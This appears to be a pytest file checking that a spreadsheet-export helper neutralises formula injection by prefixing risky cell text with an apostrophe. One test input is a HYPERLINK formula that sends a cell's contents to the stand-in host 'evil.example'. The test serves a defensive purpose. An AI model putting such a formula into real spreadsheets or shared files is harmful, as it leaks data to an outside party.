import pytest

from documents.spreadsheets import as_text


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?d="&B2,"Bấm")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1",
])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(typed):
    assert as_text(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Nguyễn Thị Ngọc Hà", "01/QĐ-UBND", "Phòng 1 = Phòng Nghiệp vụ", "", " =1+1"])
def test_ordinary_text_is_left_as_typed(typed):
    assert as_text(typed) == typed


@pytest.mark.parametrize("value", [None, 3, -3, 1.5])
def test_numbers_and_empty_cells_are_left_alone(value):
    assert as_text(value) == value
